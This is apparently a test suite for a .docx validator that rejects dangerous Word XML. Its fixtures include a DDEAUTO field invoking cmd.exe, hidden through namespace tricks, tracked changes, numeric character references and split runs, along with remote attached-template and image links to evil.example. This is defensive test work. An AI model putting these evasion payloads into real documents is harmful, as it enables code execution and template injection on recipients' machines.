import { describe, expect, it } from "vitest";
import { docx } from "@/tests/support/sample-files";
import { docxFault } from "./docx-fault";

const WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main";
const NAMESPACES = [
  `xmlns:w="${WORD}"`,
  'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"',
  'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"',
  'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:wps="urn:wps" xmlns:zz="urn:zz" mc:Ignorable="w14 zz"',
].join(" ");
const DDE = " DDEAUTO c:\\\\windows\\\\cmd.exe ";

const run = (content: string) => `<w:r>${content}</w:r>`;
const text = (words: string) => run(`<w:t>${words}</w:t>`);
const instruction = (words: string) => run(`<w:instrText xml:space="preserve">${words}</w:instrText>`);
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const field = (content: string) => `${mark("begin")}${content}${mark("separate")}${text("x")}${mark("end")}`;
const deleted = (words: string) =>
  `<w:del w:id="1"><w:r><w:delInstrText xml:space="preserve">${words}</w:delInstrText></w:r></w:del>`;
const inserted = (content: string) => `<w:ins w:id="2" w:author="Iris">${content}</w:ins>`;
const textBox = (content: string) =>
  `<w:drawing><wps:txbx><w:txbxContent><w:p>${content}</w:p></w:txbxContent></wps:txbx></w:drawing>`;
const alternatives = (choice: string, fallback = "") =>
  `<mc:AlternateContent><mc:Choice Requires="zz">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;

const part = (xml: string, name = "word/header1.xml") => docxFault(docx([{ name, text: xml }]));
const body = (content: string) => part(`<w:hdr ${NAMESPACES}><w:p>${content}</w:p></w:hdr>`);

describe("a document whose field", () => {
  it.each<[string, string]>([
    ["has a name of another namespace before it", `${run("<zz:instrText>QUOTE </zz:instrText>")}`],
    ["has one that is not declared before it", run("<yy:instrText>QUOTE </yy:instrText>")],
    ["has one without a namespace before it", run('<instrText xmlns="">QUOTE </instrText>')],
    ["has an alternative before it", run(alternatives("<w:instrText>QUOTE </w:instrText>"))],
    ["has a run in an alternative before it", alternatives(instruction("QUOTE "))],
    ["has an alternative behind the first before it", alternatives("", instruction("QUOTE "))],
    ["has a run in an element of others before it", `<zz:wrap>${instruction("QUOTE ")}</zz:wrap>`],
    ["has deleted text before it", deleted("QUOTE ")],
    ["has moved text before it", `<w:moveFrom>${instruction("QUOTE ")}</w:moveFrom>`],
    ["has inserted text before it", inserted(instruction("QUOTE "))],
    ["has deleted and inserted text before it", deleted("PAGE ") + inserted(instruction("QUOTE "))],
    ["has text in formatting before it", run("<w:rPr><w:instrText>QUOTE </w:instrText></w:rPr>")],
    ["has text in a text box before it", run(textBox(instruction("QUOTE ")))],
    ["has a beginning in numbers before it", `${instruction("QUOTE ")}${mark("&#98;egin")}`],
    ["has a beginning of another namespace before it", run('<w:fldChar zz:fldCharType="begin"/>')],
    ["has an end that is two", run('<w:fldChar w:fldCharType="end" zz:fldCharType="begin"/>')],
    ["has an end in an alternative before it", `${alternatives(mark("end"))}${mark("begin")}`],
  ])("%s is refused", async (_, before) => {
    expect(await body(field(before + instruction(DDE)))).not.toBeNull();
  });

  it.each<[string, string]>([
    ["around something deleted", instruction("DD") + deleted("X") + instruction("EAUTO x")],
    ["without the spaces that Word drops", run("<w:instrText>DD </w:instrText>") + instruction("EAUTO x")],
    ["with a text before", text("DD") + instruction("EAUTO x")],
    ["with a text of an alternative before", run(alternatives("<w:t>DD</w:t>")) + instruction("EAUTO x")],
    ["around a text box", instruction("DD") + run(textBox(mark("begin"))) + instruction("EAUTO x")],
    [
      "behind a simple field",
      `<w:fldSimple w:instr="QUOTE 68">${text("x")}</w:fldSimple>${instruction("E")}`,
    ],
  ])("is put together %s is refused", async (_, content) => {
    expect(await body(field(content))).not.toBeNull();
  });

  it.each<[string, string]>([
    ["twice", `<w:fldSimple w:instr="${DDE}" zz:instr="PAGE"/>`],
    ["twice, the other way round", `<w:fldSimple zz:instr="PAGE" w:instr="${DDE}"/>`],
    ["in another namespace", `<w:fldSimple zz:instr="PAGE"/>`],
    ["in numbers", '<w:fldSimple w:instr="&#x44;DEAUTO x"/>'],
    ["in numbers with many zeros", '<w:fldSimple w:instr="&#0000000000068;DEAUTO x"/>'],
    ["in an alternative", alternatives(`<w:fldSimple w:instr="${DDE}"/>`)],
    ["in an element of others", `<zz:wrap><w:fldSimple w:instr="${DDE}"/></zz:wrap>`],
  ])("says its instruction %s is refused", async (_, content) => {
    expect(await body(content)).not.toBeNull();
  });

  it.each<[string, string]>([
    ["strict", `<w:hdr xmlns:w="${STRICT}"><w:p>${field(instruction(DDE))}</w:p></w:hdr>`],
    [
      "in a prefix of its own",
      `<a:hdr xmlns:a="${WORD}"><a:p><a:r><a:fldChar a:fldCharType="begin"/><a:instrText>DDE x</a:instrText></a:r></a:p></a:hdr>`,
    ],
    [
      "in a default namespace",
      `<hdr xmlns="${WORD}" xmlns:a="${WORD}"><p><r><fldChar a:fldCharType="begin"/><instrText>DDE x</instrText></r></p></hdr>`,
    ],
    [
      "in a prefix that is bound again",
      `<w:hdr xmlns:w="urn:zz"><a:p xmlns:a="${WORD}"><a:r><w:fldChar xmlns:w="${WORD}" w:fldCharType="begin"/><a:instrText>DDE x</a:instrText></a:r></a:p></w:hdr>`,
    ],
    [
      "in a namespace in numbers",
      `<w:hdr xmlns:w="${WORD.replace("main", "m&#97;in")}"><w:p>${field(instruction(DDE))}</w:p></w:hdr>`,
    ],
    ["in no story", `<w:document ${NAMESPACES}><w:p>${field(instruction(DDE))}</w:p></w:document>`],
  ])("is %s is refused", async (_, xml) => {
    expect(await part(xml)).not.toBeNull();
  });
});

const TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relation = (attributes: string) =>
  part(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:zz="urn:zz"><Relationship Id="a" ${attributes}/></Relationships>`,
    "word/_rels/settings.xml.rels",
  );

describe("a relation", () => {
  const template = `Type="${TYPE}/attachedTemplate" Target="http://evil.example/t.dotm"`;

  it.each([
    ["is inside for others", `${template} TargetMode="External" zz:TargetMode="Internal"`],
    ["is inside for others first", `zz:TargetMode="Internal" ${template} TargetMode="External"`],
    [
      "has a type for others",
      `${template} TargetMode="External" zz:Type="x/hyperlink" zz:Target="https://a"`,
    ],
    ["leads elsewhere and is inside", `${template} TargetMode="Internal"`],
    ["leads elsewhere and says nothing", template],
    ["has a target for others alone", `Type="${TYPE}/image" zz:Target="a.png"`],
  ])("that %s is refused", async (_, attributes) => {
    expect(await relation(attributes)).not.toBeNull();
  });

  it.each([
    `Type="${TYPE}/hyperlink" Target="https://lakewood.example/" TargetMode="External"`,
    `Type="${TYPE}/image" Target="media/image1.png"`,
    `zz:note="x" Type="${TYPE}/styles" Target="/word/styles.xml" TargetMode="Internal"`,
  ])("%s is taken", async (attributes) => {
    expect(await relation(attributes)).toBeNull();
  });
});

it.each([
  '<v:imagedata src="&#104;ttp://evil.example/x.png"/>',
  '<v:imagedata src="a.png" zz:src="http://evil.example/x.png"/>',
  '<v:image src="http://evil.example/x.png"/>',
  '<zz:altChunk zz:id="a"/>',
  "<w:objectLink/>",
])("the element %s is refused", async (element) => {
  expect(await body(run(element))).not.toBeNull();
});

it.each<[string, string]>([
  ["changes in a field that are tracked", field(deleted(" PAGE ") + inserted(instruction(" NUMPAGES ")))],
  [
    "a link that changed",
    field(
      instruction('HYPERLINK "https://a.example/') +
        deleted("b") +
        inserted(instruction("c")) +
        instruction('"'),
    ),
  ],
  [
    "a field that was inserted",
    inserted(mark("begin")) + inserted(instruction("PAGE")) + inserted(mark("end")),
  ],
  [
    "a field that was deleted",
    `<w:del>${mark("begin")}</w:del>${deleted("PAGE")}<w:del>${mark("end")}</w:del>`,
  ],
  [
    "a number of a page in a text box",
    run(alternatives(textBox(field(instruction(" PAGE "))), textBox(field(instruction(" PAGE "))))),
  ],
  [
    "a text box in the result of a field",
    mark("begin") +
      instruction("REF a") +
      mark("separate") +
      run(textBox(field(instruction("PAGE")))) +
      mark("end"),
  ],
  [
    "a condition",
    field(`${instruction(" IF ")}${field(instruction(" MERGEFIELD a "))}${instruction(' = "1" "b" "c" ')}`),
  ],
  [
    "a field in a link, a control and a formula",
    `<w:hyperlink><w:sdt><w:sdtContent><m:oMath><m:r>${mark("begin").slice(5, -6)}${instruction("PAGE").slice(5, -6)}${mark("end").slice(5, -6)}</m:r></m:oMath></w:sdtContent></w:sdt></w:hyperlink>`,
  ],
  [
    "a link whose spaces were dropped",
    field(
      run("<w:instrText>HYPERLINK </w:instrText>") + run('<w:instrText>"https://a.example"</w:instrText>'),
    ),
  ],
  ["a simple field", `<w:fldSimple w:instr=" PAGE " w:dirty="true">${text("1")}</w:fldSimple>`],
  ["elements of later versions", `<w14:anchor xmlns:w14="urn:w14" w14:val="1"/>${text("x")}`],
  [
    "a list over several paragraphs",
    `${mark("begin")}${instruction(' TOC \\o "1-3" ')}${mark("separate")}${text("a")}</w:p><w:p>${text("b")}${mark("end")}`,
  ],
])("a document with %s is taken", async (_, content) => {
  expect(await body(content)).toBeNull();
});

it("footnotes keep their fields to themselves", async () => {
  const note = (content: string) => `<w:footnote><w:p>${content}</w:p></w:footnote>`;
  const notes = (...contents: string[]) =>
    part(`<w:footnotes ${NAMESPACES}>${contents.map(note).join("")}</w:footnotes>`, "word/footnotes.xml");
  expect(await notes(mark("begin") + instruction("PAGE"), field(instruction("PAGE")))).toBeNull();
  expect(await notes(mark("begin") + instruction("QUOTE "), instruction(DDE) + mark("end"))).not.toBeNull();
});
